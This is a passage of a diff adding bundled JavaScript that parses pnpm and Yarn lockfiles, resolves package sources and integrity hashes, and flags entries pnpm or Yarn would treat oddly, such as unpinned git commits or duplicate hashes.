+  return answers.flatMap(({ release }) => release ?? []);
+}
+function answersOf(folders) {
+  const byFolder = new Map(
+    folders.map(({ folder, answers }) => [folder, Map.groupBy(answers, ({ name }) => name)])
+  );
+  return (folder, name, text3) => {
+    const answers = byFolder.get(folder)?.get(name) ?? [];
+    return answers.find(({ specifier }) => specifier === text3)?.release;
+  };
+}
+function configDependencies(folders) {
+  return folders.flatMap((each) => each.answers).filter(({ table: table2 }) => table2 === "configDependencies").map(({ name, reference, entry, table: table2 }) => {
+    return { name: table2, value: `${name}@${reference}`, at: entry.key };
+  });
+}
+
+// src/formats/pnpm-documents.ts
+var MOST_TEXT = 32 * 1024 * 1024;
+var LIMITS2 = { values: 15e5, depth: 100 };
+function pnpmDocuments(file2) {
+  const unread4 = (gap3) => ({ project: null, environment: null, gaps: [gap3] });
+  const rests = contentOf(file2);
+  if (file2.text.length > MOST_TEXT) {
+    const message2 = `${code(file2.path)} is longer than 32 MiB and was not compared.`;
+    return unread4(gapIn(file2.path, { kind: "truncated", rests, message: message2 }));
+  }
+  const parsed7 = parseYamlDocuments(file2, LIMITS2);
+  if (!parsed7.ok) {
+    const message2 = `${code(file2.path)} isn't valid YAML, so no version in it counts: ${parsed7.message}`;
+    return unread4(gapAt(parsed7.at, { kind: "unparsed", rests, message: message2 }));
+  }
+  const [first = null, second = null] = parsed7.documents.map((each) => each.kind === "null" ? null : each);
+  const markers = markersIn(file2.text);
+  if (markers === 0 && first !== null) return { project: first, environment: null, gaps: [] };
+  if (markers === 2 && first !== null && parsed7.documents.length === 2)
+    return { project: second, environment: first, gaps: [] };
+  const why = first === null ? "holds nothing" : "sets its documents apart as no known pnpm does";
+  const message = `${code(file2.path)} ${why}, so it isn't known which versions count. Let pnpm write it anew.`;
+  return unread4(gapIn(file2.path, { kind: "unparsed", rests, message }));
+}
+function markersIn(text3) {
+  const markers = text3.match(/^(?:---|\.\.\.)(?=\s|$)/gm)?.length ?? 0;
+  if (markers === 0) return 0;
+  const asPnpmHasIt = text3.replace(/^\uFEFF/, "").replaceAll("\r\n", "\n");
+  const found9 = asPnpmHasIt.split("\n---\n").length - 1;
+  return asPnpmHasIt.startsWith("---\n") && found9 + 1 === markers ? markers : Number.NaN;
+}
+
+// src/formats/pnpm-format.ts
+var FIVE = {
+  hasSnapshots: false,
+  hasInlineSpecifiers: false,
+  keyIn: (text3) => relativeKey(text3, /^\/((?:@[^/]+\/)?[^/]+)\/([^_(]*)(?:[_(].*)?$/s),
+  keyOf: (reference, name) => relativeTo(reference, `/${name}/${reference}`)
+};
+var SIX = {
+  hasSnapshots: false,
+  hasInlineSpecifiers: true,
+  keyIn: (text3) => relativeKey(text3, /^\/(@?[^@]+)@([^_(]*)(?:[_(].*)?$/s),
+  keyOf: (reference, name) => relativeTo(reference, `/${name}@${reference}`)
+};
+var NINE = {
+  hasSnapshots: true,
+  hasInlineSpecifiers: true,
+  keyIn: namedKey,
+  keyOf: namedReference
+};
+var PNPM_FORMATS = /* @__PURE__ */ new Map([
+  ["5.3", FIVE],
+  ["5.4", FIVE],
+  ["6.0", SIX],
+  ["6.1", SIX],
+  ["9.0", NINE]
+]);
+function relativeKey(text3, form) {
+  const [, name = null, version = ""] = form.exec(text3) ?? [];
+  const isKnown3 = name !== null && isRelease(version);
+  return { name, version: isKnown3 ? version : null };
+}
+var THREE_NUMBERS = /^(?:0|[1-9]\d{0,8})(?:\.(?:0|[1-9]\d{0,8})){2}$/;
+function isRelease(version) {
+  return THREE_NUMBERS.test(version) || isVersion(version);
+}
+function relativeTo(reference, key) {
+  if (reference.startsWith("link:")) return null;
+  if (reference.startsWith("file:")) return reference;
+  const peers = reference.indexOf("(");
+  return (peers < 0 ? reference : reference.slice(0, peers)).includes("/") ? reference : key;
+}
+function namedKey(text3) {
+  const id = idOf(text3);
+  const end = id.indexOf("@", 1);
+  if (end < 0) return { name: null, version: null };
+  const version = id.slice(end + 1);
+  return { name: id.slice(0, end), version: isRelease(version) ? version : null };
+}
+function namedReference(reference, name) {
+  if (reference.startsWith("link:")) return null;
+  if (reference.startsWith("@")) return reference;
+  return /^[^@:(]*@/.test(reference) ? reference : `${name}@${reference}`;
+}
+function idOf(text3) {
+  if (!text3.endsWith(")")) return text3;
+  let depth = 0;
+  for (let at2 = text3.length - 1; at2 >= 0; at2--) {
+    if (text3[at2] === ")") depth++;
+    else if (text3[at2] === "(") depth--;
+    else if (depth === 0) return text3.slice(0, at2 + 1);
+  }
+  return text3;
+}
+
+// src/formats/pnpm-importers.ts
+var TABLES6 = ["dependencies", "optionalDependencies", "devDependencies"];
+var ENVIRONMENT_TABLES = [...ENVIRONMENT_FIELDS.keys()];
+function importersIn(document, format, gaps) {
+  const folders = [...foldersIn2(document), ...format.hasSnapshots ? [] : topIn(document)];
+  return folders.map(([folder, entry]) => {
+    gaps.push(...unreadFields3({ kind: "folder", name: folder }, entry, fieldsOf(format)));
+    return { folder, requirements: requirementsIn(folder, entry, TABLES6, format, gaps) };
+  });
+}
+function environmentIn(document, format, gaps) {
+  return foldersIn2(document).map(([folder, entry]) => {
+    gaps.push(...unreadFields3({ kind: "folder", name: folder }, entry, ENVIRONMENT_FIELDS));
+    return { folder, requirements: requirementsIn(folder, entry, ENVIRONMENT_TABLES, format, gaps) };
+  });
+}
+function fieldsOf(format) {
+  if (!format.hasInlineSpecifiers) return IMPORTER_FIELDS;
+  return new Map([...IMPORTER_FIELDS].filter(([name]) => name !== "specifiers"));
+}
+function foldersIn2(document) {
+  const table2 = member(document, "importers");
+  if (table2?.kind !== "object") return [];
+  return [...table2.entries].map(([folder, entry]) => [folder === "." ? "" : folder, entry]);
+}
+function topIn(document) {
+  if (document.kind !== "object" || document.entries.has("importers")) return [];
+  const entries = new Map([...document.entries].filter(([name]) => IMPORTER_FIELDS.has(name)));
+  const value = { ...document, entries };
+  return entries.size === 0 ? [] : [["", { key: document.at, value }]];
+}
+function requirementsIn(folder, { value }, tables2, format, gaps) {
+  const specifiers = member(value, "specifiers");
+  const requirements = [];
+  for (const table2 of tables2) {
+    for (const [name, entry] of entriesOf4(member(value, table2))) {
+      const read9 = requirementAt(name, table2, entry, format.hasInlineSpecifiers ? entry.value : specifiers);
+      if (isRead(read9, format)) requirements.push(read9);
+      else gaps.push(misshapen(folder, name, entry));
+    }
+  }
+  return format.hasInlineSpecifiers ? requirements : [...requirements, ...unanswered(specifiers, requirements)];
+}
+function misshapen(folder, name, { key, value }) {
+  const why = `has a shape for ${code(name)} that no pnpm writes`;
+  return oddity({ kind: "folder", name: folder }, key, why, value);
+}
+function requirementAt(name, table2, entry, from) {
+  const isInline = from === entry.value;
+  return {
+    ...{ name, table: table2, entry },
+    specifier: asString(member(from, isInline ? "specifier" : name)) ?? null,
+    reference: asString(isInline ? member(entry.value, "version") : entry.value) ?? null
+  };
+}
+function isRead({ name, specifier, reference, entry }, format) {
+  const fields2 = entry.value.kind === "object" ? entry.value.entries.size : 0;
+  const hasShape = format.hasInlineSpecifiers ? fields2 === 2 : true;
+  return isPackageName(name) && specifier !== null && reference !== null && hasShape;
+}
+function unanswered(specifiers, answered2) {
+  const names3 = new Set(answered2.map((each) => each.name));
+  return [...entriesOf4(specifiers)].filter(([name]) => !names3.has(name)).map(([name, entry]) => {
+    return { name, table: "", specifier: asString(entry.value) ?? null, reference: null, entry };
+  });
+}
+function entriesOf4(value) {
+  return value?.kind === "object" ? value.entries : [];
+}
+
+// src/formats/pnpm-source.ts
+function resolutionOf(value, release) {
+  const type = asString(member(value, "type")) ?? "";
+  const hashes = member(value, "integrity");
+  const text3 = asString(hashes);
+  const isReadable = text3 !== void 0 && isIntegrity(text3);
+  return {
+    type,
+    source: sourceOf2(type, value, release),
+    integrity: isReadable ? text3 : null,
+    target: type === "directory" ? asString(member(value, "directory")) ?? "" : null,
+    fault: text3 !== void 0 && !isReadable ? "has a hash that can't be read" : faultOf3(type, value),
+    lines: {
+      source: ["tarball", "repo", "directory"].map((field2) => member(value, field2)?.at).find(Boolean) ?? null,
+      checksum: hashes?.at ?? null
+    }
+  };
+}
+function sourceOf2(type, value, release) {
+  const folder = asString(member(value, "path")) ?? "";
+  switch (type) {
+    case "":
+      return inFolder3(archiveOf2(value, release), folder);
+    case "git":
+      return inFolder3(repositoryOf2(value), folder);
+    case "directory":
+      return THIS_REPOSITORY;
+    default:
+      return { kind: "unknown", text: type };
+  }
+}
+var BASE = "https://registry.npmjs.org/";
+var HOSTED = /^https:\/\/codeload\.github\.com\/([\w.-]+)\/([\w.-]+)\/tar\.gz\/([0-9a-f]{40})$/;
+function archiveOf2(value, release) {
+  const address = asString(member(value, "tarball")) ?? "";
+  if (address === "") return registryOf2(asString(member(value, "registry")) ?? "");
+  if (/^file:/.test(address) || !URL.canParse(address, BASE)) return { kind: "tarball", url: address };
+  const { href, protocol } = new URL(address, BASE);
+  const [, owner, repository, commit] = HOSTED.exec(href) ?? [];
+  if (commit !== void 0)
+    return { kind: "git", url: `https://github.com/${owner}/${repository}`, reference: "", commit };
+  return protocol === "https:" ? npmSource({ ...release, resolved: href, local: false }) : { kind: "tarball", url: href };
+}
+function registryOf2(address) {
+  if (address === "" || address === BASE || `${address}/` === BASE) return OWN_REGISTRY;
+  return { kind: "registry", url: address.replace(/\/$/, "") };
+}
+var COMMIT = /^[0-9a-f]{40}(?:[0-9a-f]{24})?$/;
+function repositoryOf2(value) {
+  const repository = asString(member(value, "repo")) ?? "";
+  const text3 = asString(member(value, "commit")) ?? "";
+  const commit = COMMIT.test(text3) ? text3 : null;
+  const address = repository.replace(/^git\+/, "").replace(/^git@([\w.-]+):(?!\/)/, "ssh://git@$1/");
+  const resolved3 = /^git:/.test(address) ? address : `git+${address}`;
+  const known7 = npmSource({ name: "", version: "", resolved: resolved3, local: false });
+  return known7.kind === "git" && !address.includes("#") ? { ...known7, commit } : { kind: "git", url: repository, reference: "", commit };
+}
+function inFolder3(source, folder) {
+  const path = folder.replace(/^\/+/, "");
+  if (path === "") return source;
+  if (source.kind === "tarball") return { ...source, url: `${source.url}#path=${path}` };
+  return source.kind === "git" ? { ...source, reference: `path=${path}` } : source;
+}
+var GIT_HOSTS = /^https:\/\/(?:codeload\.github\.com|gitlab\.com|bitbucket\.org)\//;
+function faultOf3(type, value) {
+  if (type === "git" && !COMMIT.test(asString(member(value, "commit")) ?? ""))
+    return "comes from git and no commit pins it";
+  const address = asString(member(value, "tarball")) ?? "";
+  if (asBoolean(member(value, "gitHosted")) === true && !GIT_HOSTS.test(address))
+    return "is called hosted by git and comes from elsewhere";
+  const folder = asString(member(value, "path")) ?? "";
+  if (type === "" && folder !== "" && !GIT_HOSTS.test(address)) return "is a folder of an archive";
+  return null;
+}
+
+// src/formats/pnpm-package.ts
+function entryAt(format, text3, entry, gaps) {
+  const key = format.keyIn(text3);
+  const subject = { kind: "entry", name: idOf(text3) };
+  const odd = (why) => void gaps.push(oddity(subject, entry.key, why, entry.value));
+  gaps.push(...unreadFields3(subject, entry, format.hasSnapshots ? PACKAGE_FIELDS : INSTANCE_FIELDS));
+  const written6 = nameIn3(format, key, entry);
+  const table2 = member(entry.value, "resolution");
+  if (written6 === null || !isPackageName(written6.name) || table2?.kind !== "object") {
+    odd("names no package that pnpm could fetch");
+    return null;
+  }
+  const resolution = unlessUnnamed(resolutionOf(table2, written6), written6, idOf(text3));
+  const known7 = RESOLUTION_FIELDS.get(resolution.type);
+  if (known7 === void 0) odd("is fetched in a way that isn't followed");
+  else gaps.push(...unreadFields3(subject, { key: entry.key, value: table2 }, known7));
+  for (const why of oddities(key, written6, resolution, entry)) odd(why);
+  const release = resolution.target === null ? written6 : { ...written6, version: "" };
+  return {
+    release: releaseKey(release.name, release.version, resolution),
+    locked: lockedAt(release, resolution, entry)
+  };
+}
+function nameIn3(format, key, { value }) {
+  const [name, version] = [asString(member(value, "name")), asString(member(value, "version"))];
+  if (!format.hasSnapshots && name !== void 0) return { name, version: version ?? "" };
+  return key.name === null ? null : { name: key.name, version: version ?? key.version ?? "" };
+}
+function unlessUnnamed(resolution, { version }, id) {
+  if (resolution.source.kind !== "registry" || version !== "") return resolution;
+  return {
+    ...resolution,
+    source: { kind: "unknown", text: id },
+    fault: "comes from a registry and has no version"
+  };
+}
+function oddities(key, { name, version }, resolution, entry) {
+  const field2 = asString(member(entry.value, "name"));
+  const faults = resolution.fault === null ? [] : [resolution.fault];
+  if ([name, field2 ?? name].some((each) => key.name !== null && key.name !== each))
+    faults.push("has another name than its key");
+  if (key.version !== null && key.version !== version) faults.push("has another version than its key");
+  if (resolution.source.kind !== "registry" || key.version === version) return faults;
+  if (!isVersion(version)) faults.push("comes from a registry and has no version");
+  else if (hasNoAddress(entry) && key.version === null)
+    faults.push("has the key of an address and gives none");
+  return faults;
+}
+function hasNoAddress({ value }) {
+  const resolution = member(value, "resolution");
+  return ["tarball", "registry"].every((field2) => member(resolution, field2) === void 0);
+}
+function releaseKey(name, version, { source, target }) {
+  if (isOwnRegistry(source)) return `${name}@${version}`;
+  if (target !== null) return `${name}@${sourceText(source)} ${target}`;
+  return source.kind === "registry" ? `${name}@${version} ${sourceText(source)}` : `${name}@${sourceText(source)}`;
+}
+function lockedAt(release, resolution, { key, value }) {
+  const { source, integrity, target, lines: lines2 } = resolution;
+  return {
+    ...release,
+    ...{ source, integrity, target, isArchiveHash: true },
+    hasInstallScript: hasScript(value),
+    at: key,
+    lines: linesOf(key, member(value, "version")?.at, lines2)
+  };
+}
+function hasScript(value) {
+  const isOptional = asBoolean(member(value, "optional")) === true;
+  return asBoolean(member(value, "requiresBuild")) === true && !isOptional ? true : null;
+}
+function linesOf(key, version, lines2) {
+  return { version: version ?? key, source: lines2.source ?? key, checksum: lines2.checksum ?? key };
+}
+
+// src/formats/pnpm-instances.ts
+function instancesIn(document, format, releases, gaps) {
+  const packages = entriesOf5(document, "packages");
+  const entries = /* @__PURE__ */ new Map();
+  for (const [text3, member2] of packages) {
+    const entry = entryAt(format, text3, member2, gaps);
+    entries.set(text3, entry);
+    if (entry !== null) releases.add(entry);
+  }
+  const table2 = format.hasSnapshots ? entriesOf5(document, "snapshots") : packages;
+  const instances = /* @__PURE__ */ new Map();
+  for (const text3 of table2.keys())
+    instances.set(text3, entries.get(format.hasSnapshots ? idOf(text3) : text3)?.release ?? null);
+  for (const [text3, instance] of table2) {
+    const subject = { kind: "entry", name: text3 };
+    if (format.hasSnapshots) gaps.push(...snapshotGaps(subject, instance, entries));
+    noteNeeds(subject, instance, instances, format, releases, gaps);
+  }
+  return instances;
+}
+function snapshotGaps(subject, instance, entries) {
+  const gaps = unreadFields3(subject, instance, SNAPSHOT_FIELDS);
+  if (!entries.has(idOf(subject.name)))
+    gaps.push(oddity(subject, instance.key, "is in no table of packages", instance.value));
+  return gaps;
+}
+function noteNeeds(subject, { key, value }, instances, format, releases, gaps) {
+  const release = instances.get(subject.name) ?? null;
+  if (release !== null) releases.mark(release, asBoolean(member(value, "optional")) === true);
+  const id = asString(member(value, "id"));
+  if (id !== void 0 && !isKeyOf(id, subject.name))
+    gaps.push(oddity(subject, key, "has the id of something else", value));
+  for (const table2 of ["dependencies", "optionalDependencies"]) {
+    for (const [name, need] of entriesOf5(value, table2)) {
+      const target = format.keyOf(asString(need.value) ?? "", name);
+      const needed = target === null ? null : instances.get(target);
+      if (needed === void 0) {
+        const why = `needs ${code(name)}, which the lockfile lacks`;
+        gaps.push(oddity(subject, need.key, why, need.value));
+      } else if (needed !== null) releases.ask(needed, name, release);
+    }
+  }
+}
+function isKeyOf(id, text3) {
+  return text3 === id || text3.startsWith(id) && /^[_(]/.test(text3.slice(id.length));
+}
+function entriesOf5(value, name) {
+  const table2 = member(value, name);
+  return table2?.kind === "object" ? table2.entries : NOTHING2;
+}
+var NOTHING2 = /* @__PURE__ */ new Map();
+
+// src/formats/pnpm-releases.ts
+var PnpmReleases = class {
+  #drafts = /* @__PURE__ */ new Map();
+  #gaps;
+  constructor(gaps) {
+    this.#gaps = gaps;
+  }
+  add({ release, locked }) {
+    const known7 = this.#drafts.get(release);
+    if (known7 === void 0) {
+      this.#drafts.set(release, { locked, isOptional: null, names: /* @__PURE__ */ new Set(), needs: /* @__PURE__ */ new Set() });
+      return;
+    }
+    const { integrity, version } = known7.locked;
+    if (integrity !== locked.integrity || version !== locked.version) this.#tellTwins(release, known7, locked);
+    known7.locked = {
+      ...known7.locked,
+      integrity: locked.integrity === null ? null : integrity,
+      hasInstallScript: known7.locked.hasInstallScript ?? locked.hasInstallScript
+    };
+  }
+  /** pnpm checks each entry by its own hash, so one of them may be other code under the same name. */
+  #tellTwins(release, { locked }, other) {
+    const message = `${code(release)} stands in the lockfile more than once, with different hashes or versions. Let pnpm write the lockfile anew.`;
+    const twins = [locked, other].map(({ integrity, version }) => `${version} ${integrity}`).sort(compareText);
+    const rests = wordsOf("pnpm twins", release, ...twins);
+    this.#gaps.push(gapAt(other.at, { kind: "not-followed", rests, message }));
+  }
+  /** Notes an instance: that it must be had, unless it is optional as all the others are. */
+  mark(release, isOptional) {
+    const draft = this.#drafts.get(release);
+    if (draft !== void 0) draft.isOptional = isOptional && draft.isOptional !== false;
+  }
+  ask(release, name, from) {
+    this.#drafts.get(release)?.names.add(name);
+    if (from !== null) this.#drafts.get(from)?.needs.add(release);
+  }
+  /** All of them. A release is for development where only what development asks for leads to it. */
+  finish(always, dev) {
+    const [needed, developed] = [this.#reachedFrom(always), this.#reachedFrom(dev)];
+    const packages = /* @__PURE__ */ new Map();
+    for (const [release, { locked, isOptional, names: names3, needs }] of this.#drafts) {
+      const scope = {
+        isDev: developed.has(release) && !needed.has(release),
+        isOptional: isOptional ?? false
+      };
+      packages.set(release, { ...locked, scope, names: sorted(names3), needs: sorted(needs) });
+    }
+    return packages;
+  }
+  #reachedFrom(roots) {
+    const reached3 = new Set(roots);
+    for (const release of reached3)
+      for (const need of this.#drafts.get(release)?.needs ?? []) reached3.add(need);
+    return reached3;
+  }
+};
+function sorted(texts) {
+  return [...texts].sort(compareText);
+}
+
+// src/formats/pnpm-settings.ts
+function settingsIn2(document) {
+  return [
+    ...tableOf(document, "overrides", (name, value) => `${name}: ${textOf4(value)}`),
+    // A patch is what its hash says, wherever its file lies: pnpm 11 records nothing else.
+    ...tableOf(
+      document,
+      "patchedDependencies",
+      (name, value) => [name, asString(member(value, "hash")) ?? textOf4(value)].join(" ")
+    ),
+    ...["packageExtensionsChecksum", "pnpmfileChecksum"].flatMap((name) => {
+      const value = member(document, name);
+      return value === void 0 ? [] : [{ name, value: textOf4(value), at: value.at }];
+    }),
+    ...["onlyBuiltDependencies", "neverBuiltDependencies"].flatMap(
+      (name) => stringsOf(member(document, name)).map(({ value, at: at2 }) => ({ name, value, at: at2 }))
+    )
+  ];
+}
+function tableOf(document, name, write) {
+  const table2 = member(document, name);
+  if (table2?.kind !== "object") return [];
+  return [...table2.entries].map(([key, entry]) => ({ name, value: write(key, entry.value), at: entry.key }));
+}
+function textOf4(value) {
+  return asString(value) ?? JSON.stringify(plain(value));
+}
+
+// src/formats/pnpm-lock.ts
+var MOST_PACKAGES2 = 1e5;
+function readPnpmLock(file2) {
+  const lock = read4.get(file2) ?? lockIn2(file2);
+  read4.set(file2, lock);
+  return lock;
+}
+var read4 = /* @__PURE__ */ new WeakMap();
+function lockIn2(file2) {
+  const documents = pnpmDocuments(file2);
+  const fault = documents.gaps.length > 0 ? documents.gaps : refusals(file2, documents);
+  if (fault.length > 0) return emptyLock2(file2, versionOf4(documents), fault);
+  const gaps = [];
+  const releases = new PnpmReleases(gaps);
+  const { environment, project } = documents;
+  const own = environment === null ? [] : foldersOf3(environment, true, releases, gaps);
+  const folders = project === null ? [] : foldersOf3(project, false, releases, gaps);
+  const all = [...own, ...folders];
+  return {
+    ...{ path: file2.path, manager: "pnpm", version: versionOf4(documents) },
+    packages: releases.finish(rootsOf2(all, false), rootsOf2(all, true)),
+    projects: projectsOf(all),
+    answerTo: answersOf(folders),
+    settings: [...configDependencies(own), ...project === null ? [] : settingsIn2(project)],
+    gaps
+  };
+}
+function emptyLock2({ path }, version, gaps) {
+  return {
+    ...{ path, manager: "pnpm", version, packages: /* @__PURE__ */ new Map(), projects: /* @__PURE__ */ new Map() },
+    answerTo: () => void 0,
+    settings: [],
+    gaps
+  };
+}
+function versionOf4({ project, environment }) {
+  return numberOf(project ?? environment ?? void 0);
+}
+function numberOf(document) {
+  return asString(member(document, "lockfileVersion")) ?? "";
+}
+function refusals(file2, { environment, project }) {
+  const rests = contentOf(file2);
+  for (const document of [environment, project]) {
+    if (document === null) continue;
+    const number = numberOf(document);
+    const format = PNPM_FORMATS.get(number);
+    if (format === void 0 || document === environment && !format.hasSnapshots) {
+      const message = `${code(file2.path)} has the format ${code(number)}, which isn't read. Formats ${[...PNPM_FORMATS.keys()].join(", ")} are.`;
+      return [gapIn(file2.path, { kind: "unsupported", rests, message })];
+    }
+    if (["packages", "snapshots"].some((name) => sizeOf2(member(document, name)) > MOST_PACKAGES2)) {
+      const message = `${code(file2.path)} names more than ${MOST_PACKAGES2} packages; none of them was compared.`;
+      return [gapIn(file2.path, { kind: "truncated", rests, message })];
+    }
+  }
+  return [];
+}
+function sizeOf2(table2) {
+  return table2?.kind === "object" ? table2.entries.size : 0;
+}
+function foldersOf3(document, isEnvironment, releases, gaps) {
+  const format = PNPM_FORMATS.get(numberOf(document));
+  if (format === void 0) return [];
+  const fields2 = documentFields(format, isEnvironment);
+  const top2 = { key: topOf(document.at.path), value: document };
+  gaps.push(...unreadFields3({ kind: "document", name: "pnpm-lock.yaml" }, top2, fields2));
+  const instances = instancesIn(document, format, releases, gaps);
+  const importers = (isEnvironment ? environmentIn : importersIn)(document, format, gaps);
+  return importers.map((each) => answered(each, format, instances, releases, gaps));
+}
+
+// src/formats/yarn-entry.ts
+function asked(descriptor) {
+  const end = descriptor.indexOf("@", 1);
+  return end < 0 ? null : { name: descriptor.slice(0, end), text: descriptor.slice(end + 1) };
+}
+function isUnpinned(source) {
+  return source.kind === "git" && source.commit === null;
+}
+function pathFrom(folder, path) {
+  if (/^[/~\\]|^[A-Za-z]:|\\/.test(path)) return null;
+  const parts = [];
+  for (const part of `${folder}/${path}`.split("/")) {
+    if (part === "" || part === ".") continue;
+    if (part === ".." && parts.length > 0 && parts.at(-1) !== "..") parts.pop();
+    else parts.push(part);
+  }
+  return parts.join("/");
+}
+
+// src/formats/yarn-fields.ts
+var text2 = (pattern, words3) => ({
+  is: (value) => value.kind === "string" && pattern.test(value.value),
+  words: words3
+});
+var TEXTS3 = {
+  is: (value) => isTable2(value, ({ kind }) => kind === "string"),
+  words: "a table of texts"
+};
+var SWITCHES = {
+  is: (value) => isTable2(value, (each) => isTable2(each, isSwitch, /^(?:optional|built|unplugged)$/)),
+  words: "a table of switches"
+};
+var CLASSIC = /* @__PURE__ */ new Map([
+  ["version", text2(/./, "a version")],
+  ["resolved", text2(/^[\x21-\x7e]+$/, "an address")],
+  [
+    "integrity",
+    { is: (value) => value.kind === "string" && isIntegrity(value.value), words: "a list of hashes" }
+  ],
+  // It becomes the name of a folder in Yarn's cache.
+  ["uid", text2(/^[0-9a-f]*$/, "a commit")],
+  ["dependencies", TEXTS3],
+  ["optionalDependencies", TEXTS3]
+]);
+var BERRY = /* @__PURE__ */ new Map([
+  ["version", text2(/./, "a version")],
+  ["resolution", text2(/^.+$/, "a locator")],
+  ["checksum", text2(/^(?:[0-9a-z]+\/)?[0-9a-f]{32,}$/, "a hash")],
+  ["languageName", text2(/^(?:node|unknown)$/, "`node` or `unknown`")],
+  ["linkType", text2(/^(?:hard|soft)$/, "`hard` or `soft`")],
+  ["conditions", text2(/^[\w=!&|() -]+$/, "a list of platforms")],
+  ["dependencies", TEXTS3],
+  ["peerDependencies", TEXTS3],
+  ["dependenciesMeta", SWITCHES],
+  ["peerDependenciesMeta", SWITCHES],
+  // Yarn runs the file that a command names, which lies in the package.
+  ["bin", { is: (value) => isTable2(value, isInside), words: "a table of files of the package" }]
+]);
+var METADATA = /* @__PURE__ */ new Map([
+  ["version", text2(/^\d{1,3}$/, "a number")],
+  ["cacheKey", text2(/^[0-9a-z]+$/, "a key")]
+]);
+var KNOWN = { classic: CLASSIC, berry: BERRY, metadata: METADATA };
+function unreadFields4(style, { entries }) {
+  const faults = [];
+  for (const [field2, { value }] of entries) {
+    const shape = KNOWN[style].get(field2);
+    if (shape === void 0)
+      faults.push({ field: field2, reason: "isn't read, and Yarn may run or fetch what it says." });
+    else if (!shape.is(value))
+      faults.push({ field: field2, reason: `isn't ${shape.words}, so Yarn may read it in another way.` });
+  }
+  return faults;
+}
+function isTable2(value, isRight, names3 = /./) {
+  return value.kind === "object" && [...value.entries].every(([name, entry]) => names3.test(name) && isRight(entry.value));
+}
+function isSwitch(value) {
+  return value.kind === "string" && /^(?:true|false)$/.test(value.value);
+}
+function isInside(value) {
+  return value.kind === "string" && !/^\/|(?:^|\/)\.\.(?:\/|$)|\\|^[A-Za-z]:/.test(value.value);
+}
+
+// src/formats/yarn-source.ts
+var COMMIT2 = /^(?:[0-9a-f]{40}|[0-9a-f]{64})$/;
+var GITHUB_ARCHIVE = /^https:\/\/codeload\.github\.com\/([^/?#]+\/[^/?#]+)\/tar\.gz\/([0-9a-f]{40})$/;
+function addressSource({ name, version }, url) {
+  const [, repository, commit] = GITHUB_ARCHIVE.exec(url) ?? [];
+  if (repository !== void 0 && commit !== void 0)
+    return gitSource2(`https://github.com/${repository}`, commit);
+  return npmSource({ name, version, resolved: url, local: false });
+}
+function gitSource2(repository, commit, reference = "") {
+  const [, host, path] = /^[\w.-]+@([\w.-]+):(?!\/)(.+)$/.exec(repository) ?? [];
+  const address = host === void 0 ? repository : `ssh://git@${host}/${path}`;
+  const resolved3 = /^git[:+]/.test(address) ? address : `git+${address}`;
+  const source = npmSource({ name: "", version: "", resolved: resolved3, local: false });
+  if (source.kind !== "git") return { kind: "unknown", text: repository };
+  return { ...source, commit: commit !== null && COMMIT2.test(commit) ? commit : null, reference };
+}
+function fileSource(path) {
+  return { kind: "tarball", url: `file:${path}` };
+}
+function isArchivePath(path) {
+  return /\.(?:tgz|tar|tar\.gz)$/i.test(path);
+}
+
+// src/formats/yarn-locator.ts
+var DEEPEST4 = 8;
+var MOST_PATCHES = 16;
+var REFERENCE = /^([^#:]*:)?((?:(?!::)[^#])*)(?:#((?:(?!::).)*))?(?:::(.*))?$/;
+var LOCATOR = /^((?:@[^/]+?\/)?[^@/]+?)@(.+)$/;
+var OWN_PROTOCOL = /^(?:npm|workspace|link|portal|file|patch|exec):/;
+var BUILTIN = /^(?:optional!|~)?builtin<compat\/[a-z-]+>$/;
+var ARCHIVE = /^https?:\/\/[^?#]+\.(?:tgz|tar\.gz)(?:\?[^#]*)?$/;
+function located(locator, version, depth = 0) {
+  const [, name, text3] = LOCATOR.exec(locator) ?? [];
+  if (name === void 0 || text3 === void 0 || depth > DEEPEST4) return null;
+  if (!OWN_PROTOCOL.test(text3) && /#(?:[^#]*&)?commit=/.test(text3)) return gitAt(name, text3);
+  const parts = partsOf10(text3);
+  if (parts === null) return null;
+  return byProtocol({ name, text: text3, version, ...parts }, depth);
+}
+function byProtocol(reference, depth) {
+  const { name, version, text: text3, selector, params, source } = reference;
+  switch (reference.protocol) {
+    case "npm:":
+      return source === null ? releaseAt(name, selector, params) : null;
+    case "workspace:":
+      return source === null && has2(params) ? folderAt2(name, pathFrom("", selector), "project") : null;
+    case "link:":
+    case "portal:":
+      return source === null && has2(params, "locator") ? folderAt2(name, pathIn(reference, depth), "soft") : null;
+    case "file:":
+      return has2(params, "hash", "locator") ? fileAt(reference, depth) : null;
+    case "patch:":
+      return has2(params, "version", "hash", "locator") ? patchedAt(reference, depth) : null;
+    case "exec:":
+      return packageAt2(name, { kind: "unknown", text: text3 });
+    case "https:":
+    case "http:":
+      return ARCHIVE.test(text3) || /^https:\/\/codeload\.github\.com\//.test(text3) ? packageAt2(name, addressSource({ name, version }, text3)) : null;
+    default:
+      return null;
+  }
+}
+function partsOf10(text3) {
+  const [, protocol = "", body = "", selector, query] = REFERENCE.exec(text3) ?? [];
+  const params = paramsIn(query);
+  try {
+    const source = selector === void 0 ? null : decodeURIComponent(body);
+    return params && { protocol, source, selector: decodeURIComponent(selector ?? body), params };
+  } catch {
+    return null;
+  }
+}
+function paramsIn(query) {
+  const pairs = [...new URLSearchParams(query ?? "")];
+  const params = new Map(pairs);
+  return params.size === pairs.length ? params : null;
+}
+function has2(params, ...known7) {
+  return [...params.keys()].every((name) => known7.includes(name));
+}
+function packageAt2(name, source, version = null) {
+  return { name, source, version, kind: "package", isSoft: false, target: null, patches: [] };
+}
+function releaseAt(name, version, params) {
+  if (!isVersion(version) || !has2(params, "__archiveUrl")) return null;
+  const archive = params.get("__archiveUrl");
+  return packageAt2(name, archive ? addressSource({ name, version }, archive) : OWN_REGISTRY, version);
+}
+function gitAt(name, text3) {
+  const [repository = "", ...rest2] = text3.split("#");
+  const params = new URLSearchParams(rest2.join("#"));
+  const commits = params.getAll("commit");
+  params.delete("commit");
+  params.sort();
+  return packageAt2(
+    name,
+    gitSource2(repository, commits.length === 1 ? commits[0] ?? null : null, `${params}`)
+  );
+}
+function folderAt2(name, target, as) {
+  if (target === null) return null;
+  const kind = as === "project" ? "project" : "package";
+  return { ...packageAt2(name, THIS_REPOSITORY), kind, isSoft: as !== "copied", target };
+}
+function fileAt(reference, depth) {
+  const path = reference.source === null || reference.source === reference.selector ? pathIn(reference, depth) : null;
+  if (path === null || !isArchivePath(path)) return folderAt2(reference.name, path, "copied");
+  return packageAt2(reference.name, fileSource(path));
+}
+function pathIn({ selector, params }, depth) {
+  const folder = askingFolder(params, depth);
